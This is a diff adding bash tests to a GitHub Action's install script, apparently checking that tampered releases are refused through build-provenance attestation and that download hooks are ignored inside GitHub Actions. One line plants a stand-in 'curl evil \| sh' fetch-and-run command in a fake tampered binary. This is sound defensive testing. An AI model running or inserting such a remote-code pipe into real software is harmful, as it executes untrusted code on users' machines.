@@ -264,6 +264,128 @@ CASE=http
 run_action $CASE GGUF_GATE_RELEASE_BASE="http://127.0.0.1:9/release"
 expect_rc "plain http release base refused: exit 3" 3
 
+echo "== action script: build provenance (attestations) and test hooks"
+# A fake GitHub CLI: `gh attestation verify FILE --repo R --signer-workflow W` succeeds
+# only when FILE's sha256 is one the (fake) release workflow attested, listed in
+# $FAKE_ATTESTED; it records its arguments in $FAKE_GH_ARGS.
+# A fake curl: serves https://github.com/acme/gguf-gate/releases/download/v1.2.3/NAME
+# from $FAKE_GITHUB/NAME and records every URL and its --proto in $FAKE_CURL_LOG.
+fakes="$tmp/fake-tools"
+mkdir -p "$fakes"
+cat >"$fakes/gh" <<'SH'
+#!/usr/bin/env bash
+printf '%s\n' "$@" >"$FAKE_GH_ARGS"
+[ "$1 $2" = "attestation verify" ] || exit 1
+digest="$(sha256sum <"$3" | cut -d' ' -f1)"
+if grep -qx "$digest" "$FAKE_ATTESTED"; then echo "Loaded 1 attestation from GitHub API" >&2; exit 0; fi
+echo "Error: no attestations found for sha256:$digest" >&2
+exit 1
+SH
+cat >"$fakes/curl" <<'SH'
+#!/usr/bin/env bash
+out="" proto="" url=""
+while [ $# -gt 0 ]; do
+  case "$1" in
+    -o) out="$2"; shift ;;
+    --proto) proto="$2"; shift ;;
+    --proto-redir | --retry) shift ;;
+    -*) ;;
+    *) url="$1" ;;
+  esac
+  shift
+done
+echo "$proto $url" >>"$FAKE_CURL_LOG"
+prefix="https://github.com/acme/gguf-gate/releases/download/v1.2.3/"
+case "$url" in "$prefix"*) cp -- "$FAKE_GITHUB/${url#"$prefix"}" "$out" ;; *) exit 22 ;; esac
+SH
+chmod +x "$fakes/gh" "$fakes/curl"
+attested="$tmp/attested"
+(cd "$rel" && for f in gguf-gate-*; do sha256sum <"$f" | cut -d' ' -f1; done) >"$attested"
+
+# An attacker's release: a tampered binary with a SHA256SUMS that matches it.
+evil="$(copy_release evil)"
+printf 'curl evil | sh\n' >>"$evil/gguf-gate-x86_64-unknown-linux-gnu"
+(cd "$evil" && sha256sum gguf-gate-* >SHA256SUMS)
+
+# gh_env: the variables of a run with the fake gh and curl.
+gh_env() {
+  printf '%s\n' PATH="$fakes:$PATH" FAKE_ATTESTED="$attested" FAKE_GH_ARGS="$tmp/case-$CASE/gh-args" \
+    FAKE_CURL_LOG="$tmp/case-$CASE/curl-log" GGUF_GATE_ACTION_REPOSITORY=acme/gguf-gate GH_TOKEN=t
+}
+
+CASE=attested
+mapfile -t extra < <(gh_env)
+run_action $CASE "${extra[@]}" GGUF_GATE_ATTESTATION=required
+expect_rc "attestation required, genuine release: exit 0" 0
+expect_out "genuine release: the provenance is verified" "verified build provenance"
+expect_line "gh verifies against the action's repository" "$tmp/case-$CASE/gh-args" "acme/gguf-gate"
+expect_line "gh requires the release workflow as signer" "$tmp/case-$CASE/gh-args" "acme/gguf-gate/.github/workflows/release.yml"
+
+CASE=tampered-with-sums
+mapfile -t extra < <(gh_env)
+run_action $CASE "${extra[@]}" GGUF_GATE_ATTESTATION=required GGUF_GATE_RELEASE_BASE="$evil"
+expect_rc "tampered binary with a matching SHA256SUMS, attestation required: exit 3" 3
+expect_out "tampered binary with matching sums: the sha256 alone passed" "verified sha256"
+expect_out "tampered binary with matching sums: refused for its provenance" "has no valid build provenance attestation from acme/gguf-gate's release workflow"
+expect_not_run "tampered binary with matching sums: never run nor installed"
+if ls "$tmp/case-$CASE/runner/gguf-gate-v1.2.3/"*.download >/dev/null 2>&1; then
+  not_ok "tampered binary with matching sums: the download is deleted"
+else
+  ok "tampered binary with matching sums: the download is deleted"
+fi
+
+CASE=no-gh
+nogh="$tmp/nogh-bin"
+mkdir -p "$nogh"
+for tool in bash env cat sed awk grep dirname mkdir rm cp mv chmod sha256sum cut tr wc uname printf ls; do
+  if command -v "$tool" >/dev/null 2>&1; then ln -sf "$(command -v "$tool")" "$nogh/$tool"; fi
+done
+run_action $CASE PATH="$nogh" GGUF_GATE_ATTESTATION=required GGUF_GATE_ACTION_REPOSITORY=acme/gguf-gate
+expect_rc "attestation required without gh: exit 3" 3
+expect_out "attestation required without gh: says to install gh" "the GitHub CLI (gh) is not on this runner"
+expect_not_run "attestation required without gh: never run"
+
+CASE=bad-attestation-input
+run_action $CASE GGUF_GATE_ATTESTATION=maybe
+expect_rc "attestation=maybe: exit 2" 2
+
+CASE=hooks-in-actions
+mapfile -t extra < <(gh_env)
+run_action $CASE "${extra[@]}" GITHUB_ACTIONS=true FAKE_GITHUB="$rel" \
+  GGUF_GATE_RELEASE_BASE="$evil" GGUF_GATE_INSTALL_DIR="$tmp/case-$CASE/evil-install"
+expect_rc "inside GitHub Actions, the genuine release from github.com: exit 0" 0
+expect_out "inside GitHub Actions: GGUF_GATE_RELEASE_BASE ignored" "ignoring GGUF_GATE_RELEASE_BASE inside GitHub Actions"
+expect_out "inside GitHub Actions: GGUF_GATE_INSTALL_DIR ignored" "ignoring GGUF_GATE_INSTALL_DIR inside GitHub Actions"
+expect_line "inside GitHub Actions: downloaded from the action's release over https only" "$tmp/case-$CASE/curl-log" \
+  "=https https://github.com/acme/gguf-gate/releases/download/v1.2.3/gguf-gate-x86_64-unknown-linux-gnu"
+if [ -e "$tmp/case-$CASE/evil-install" ]; then
+  not_ok "inside GitHub Actions: nothing installed where the hook said"
+else
+  ok "inside GitHub Actions: nothing installed where the hook said"
+fi
+expect_out "inside GitHub Actions: attestation verified by default (auto)" "verified build provenance"
+if cmp -s "$rel/gguf-gate-x86_64-unknown-linux-gnu" "$tmp/case-$CASE/runner/gguf-gate-v1.2.3/gguf-gate"; then
+  ok "inside GitHub Actions: the genuine binary is installed"
+else
+  not_ok "inside GitHub Actions: the genuine binary is installed" "$OUT"
+fi
+
+CASE=actions-tampered
+mapfile -t extra < <(gh_env)
+run_action $CASE "${extra[@]}" GITHUB_ACTIONS=true FAKE_GITHUB="$evil" GGUF_GATE_RELEASE_BASE=
+expect_rc "inside GitHub Actions, a tampered release with matching sums: exit 3" 3
+expect_not_run "inside GitHub Actions, a tampered release: never run nor installed"
+
+CASE=actions-file-url
+mapfile -t extra < <(gh_env)
+run_action $CASE "${extra[@]}" GITHUB_ACTIONS=true FAKE_GITHUB="$rel" GGUF_GATE_RELEASE_BASE="file://$evil"
+expect_rc "inside GitHub Actions, a file:// release base is ignored: exit 0" 0
+if grep -q "file://" "$tmp/case-$CASE/curl-log"; then
+  not_ok "inside GitHub Actions: no file:// download" "$(cat "$tmp/case-$CASE/curl-log")"
+else
+  ok "inside GitHub Actions: no file:// download"
+fi
+
 echo "== action script: unsupported runners"
 CASE=os
 run_action $CASE RUNNER_OS=FreeBSD
